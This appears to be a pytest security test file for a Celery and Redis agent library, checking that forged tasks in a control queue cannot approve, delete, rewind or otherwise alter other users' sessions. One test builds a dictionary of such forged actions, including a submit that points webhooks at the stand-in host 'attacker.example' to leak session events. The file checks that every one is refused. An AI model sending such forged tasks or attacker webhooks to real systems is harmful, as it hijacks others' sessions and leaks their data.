"""What somebody who may write to the control queue, and to nothing else, can do to the sessions of others."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import redis

from celery_agents import AgentClient
from celery_agents.tasks.app import create_app
from celery_agents.tasks.names import CONTROL

from support.agents import call, plan
from support.lab import Lab
from support.redis_keys import session_key
from support.redis_server import RedisServer
from support.wait import wait_until
from support.worker_process import WorkerProcess

QUEUE = "celery_agents.control"
RECORDS, TIMES = f"{QUEUE}.unacked", f"{QUEUE}.unacked_index"
HOOK = "https://attacker.example/"

pytestmark = [pytest.mark.leaves_keys("what was quarantined or damaged stays"), pytest.mark.timeout(120)]


@pytest.fixture
def lab(tmp_path: Path) -> Iterator[Lab]:
    env = {"CELERY_AGENTS_WEBHOOK_SECRET": "a-secret"}
    with Lab(tmp_path / "lab", agents="support.asking_agents", env=env) as started:
        yield started


def send(lab: Lab, task: str, **kwargs: Any) -> None:
    """As the Redis user `submitter` can: any task, in the control queue."""
    create_app(lab.client.settings).send_task(f"celery_agents.{task}", kwargs=kwargs, queue=QUEUE)


def quarantined(lab: Lab) -> list[str]:
    return [entry["reason"] for entry in lab.client.store.housekeeping.list_dead(100)]


def test_nobody_acts_on_the_sessions_of_others_by_a_task(lab: Lab) -> None:
    lab.worker()
    client = lab.client
    job = client.submit("asking", plan([call("refund", work="a")]), session_id="chat-9")
    wait_until(lambda: client.header("chat-9").status == "waiting", "it waits for an approval", 30)
    (request,) = client.requests("chat-9").requests
    before = client.show("chat-9")
    attacks: dict[str, dict[str, Any]] = {
        "answer": {"answers": {request.summary.id: {"approve": True}}, "by": "boss"}, "stop": {}, "retry": {},
        "suspend": {"reason": "x"}, "resume": {}, "delete": {}, "fork": {}, "clear": {},
        "change_budget": {"budget": {"max_steps": 0}},
        "withdraw_message": {"operation_id": "o1"}, "set_message_mode": {"operation_id": "o1", "when": "steer"},
        "release_queue": {}, "rewind": {"to": 1},
        "submit": {"agent": "asking", "message": "mine", "webhook": HOOK, "request_webhook": HOOK},
    }  # fmt: skip
    assert {*attacks, "answer_by_token", "complete", "fail"} == {name.rpartition(".")[2] for name in CONTROL}
    for task, kwargs in attacks.items():
        send(lab, task, session_id="chat-9", **kwargs)
    wait_until(lambda: len(quarantined(lab)) == len(attacks), "each is refused", 30, details=lab.workers[0].tail)
    for task in attacks:
        missing = "send_message" if task == "submit" else task
        assert (
            f"celery_agents.{task} is not accepted: CELERY_AGENTS_CONTROL_TASKS does not name {missing}"
            in quarantined(lab)
        )
    assert client.show("chat-9") == before
    assert client.header("chat-9").status == "waiting"
    assert not [entry for entry in lab.ledger.entries() if entry.get("tool") == "refund"]
    assert HOOK not in str(lab.redis.hgetall(session_key("chat-9")))
    client.stop(job.session_id)


def test_a_new_session_is_made_once_however_often_its_task_comes(lab: Lab) -> None:
    lab.worker()
    for _ in range(2):
        send(lab, "submit", agent="asking", message=plan(answer="done"), session_id="of-a-submitter")
    wait_until(lambda: lab.redis.exists(session_key("of-a-submitter")), "it is made", 30)
    wait_until(lambda: lab.client.header("of-a-submitter").status == "completed", "it is done", 30)
    wait_until(lambda: not lab.redis.llen(QUEUE) and not lab.redis.hlen(RECORDS), "both are taken", 30)
    assert lab.client.header("of-a-submitter").step == 1
    assert quarantined(lab) == []


def test_a_task_is_kept_however_long_the_store_is_away(lab: Lab, tmp_path: Path) -> None:
    """Here for its twentieth try, four minutes after its first one."""
    store = RedisServer(tmp_path / "store").start()
    try:
        worker = lab.worker(url=store.url(), CELERY_AGENTS_BROKER_URL=lab.store_url)
        store.stop()
        kwargs = {"agent": "asking", "message": plan(answer="done"), "session_id": "late"}
        create_app(lab.client.settings).send_task("celery_agents.submit", kwargs=kwargs, queue=QUEUE, retries=20)
        wait_until(lambda: "StoreUnavailable" in worker.text(), "it is tried", 30, details=worker.tail)
        store.start()
        wait_until(lambda: store.client().exists(session_key("late")), "it is done", 60, details=worker.tail)
    finally:
        store.end()


def test_a_worker_that_is_told_so_takes_every_control_task(lab: Lab) -> None:
    """The attacks above succeed where the setting names them."""
    lab.worker(CELERY_AGENTS_CONTROL_TASKS="answer,send_message,submit")
    client = lab.client
    job = client.submit("asking", plan([call("refund", work="a")]), session_id="chat-9")
    wait_until(lambda: client.header("chat-9").status == "waiting", "it waits for an approval", 30)
    (request,) = client.requests("chat-9").requests
    send(lab, "answer", session_id="chat-9", answers={request.summary.id: {"approve": True}})
    wait_until(lambda: client.header("chat-9").status == "completed", "it was answered", 30)
    send(lab, "submit", agent="asking", message=plan(answer="again"), session_id="chat-9")
    wait_until(lambda: client.header("chat-9").execution_id != job.execution_id, "it goes on", 30)
    assert quarantined(lab) == []


def test_control_tasks_of_killed_workers_are_carried_out_and_each_session_runs_once(lab: Lab) -> None:
    names = [f"by-name-{number}" for number in range(160)]
    for name in names:
        send(lab, "submit", agent="asking", message=plan(answer="done"), session_id=name)
    keys = [session_key(name) for name in names]
    held = 0
    for _ in range(4):
        before = lab.redis.exists(*keys)
        worker = lab.worker(wait=False, CELERY_AGENTS_CONCURRENCY="4")
        wait_until(lambda before=before: lab.redis.exists(*keys) > before, "tasks run", 30, details=worker.tail)
        worker.kill()
        held = lab.redis.hlen(RECORDS)
    assert held > 0, "a worker was killed at work"
    for record in lab.redis.hkeys(RECORDS):
        lab.redis.zadd(TIMES, {record: 1})  # their time is over
    lab.worker()
    wait_until(lambda: lab.redis.exists(*keys) == len(keys), "each task is carried out", 60)
    wait_until(lambda: not lab.redis.exists(QUEUE, RECORDS, TIMES), "and acknowledged", 30)
    for name in names:
        wait_until(lambda name=name: lab.client.header(name).status == "completed", f"{name} is done", 30)
    assert {lab.client.header(name).step for name in names} == {1}
    assert quarantined(lab) == []


@pytest.mark.parametrize("pool", ["prefork", "threads", "solo"])
def test_control_tasks_are_carried_out_in_every_pool(lab: Lab, pool: str) -> None:
    lab.worker(CELERY_AGENTS_POOL=pool, CELERY_AGENTS_CONCURRENCY="2")
    send(lab, "submit", agent="asking", message=plan(answer="done"), session_id="of-a-submitter")
    wait_until(lambda: lab.redis.exists(session_key("of-a-submitter")), "it is made", 30)
    wait_until(lambda: lab.client.header("of-a-submitter").status == "completed", "it is done", 30)
    wait_until(lambda: not lab.redis.exists(QUEUE, RECORDS, TIMES), "it is acknowledged", 30)


def test_a_control_task_whose_child_is_killed_is_carried_out_after_the_visibility_timeout(lab: Lab) -> None:
    worker = lab.worker(
        CELERY_AGENTS_AGENTS="support.killed_child_agents", CELERY_AGENTS_POOL="prefork", CELERY_AGENTS_CONCURRENCY="1"
    )
    send(lab, "submit", agent="asking", message=plan(answer="done"), session_id="of-a-submitter")
    wait_until(lambda: "WorkerLostError" in worker.text(), "its child is killed", 30, details=worker.tail)
    assert lab.redis.hlen(RECORDS) == 1
    assert not lab.redis.exists(QUEUE, session_key("of-a-submitter"))
    for record in lab.redis.hkeys(RECORDS):
        lab.redis.zadd(TIMES, {record: 1})  # its time is over
    wait_until(lambda: lab.redis.exists(session_key("of-a-submitter")), "it is made", 30, details=worker.tail)
    wait_until(lambda: lab.client.header("of-a-submitter").status == "completed", "it is done", 30)
    wait_until(lambda: not lab.redis.exists(QUEUE, RECORDS, TIMES), "it is acknowledged", 30)


@pytest.mark.parametrize("key", [QUEUE, f"{QUEUE}\x06\x163"], ids=["queue", "priority"])
def test_a_control_queue_of_another_type_stops_no_worker_and_is_taken_when_it_is_mended(
    redis_url: str,
    redis_client: redis.Redis,
    new_worker: Callable[..., WorkerProcess],
    ledger: Any,
    key: str,
) -> None:
    redis_client.sadd(key, "x")
    worker = new_worker(env=ledger.env)
    client = AgentClient(redis_url)
    assert client.submit("planned", plan(answer="fine")).result(timeout=20).status == "completed", worker.tail()
    wait_until(lambda: any(facts["refused"] for facts in client.store.registry.workers().values()), "doctor knows", 20)
    redis_client.rename(key, "aside")
    create_app(client.settings).send_task(
        "celery_agents.submit", kwargs={"agent": "planned", "message": plan(answer="x"), "session_id": "by-name"}
    )
    wait_until(lambda: redis_client.hget(session_key("by-name"), "status") == "completed", "it is taken", 20)
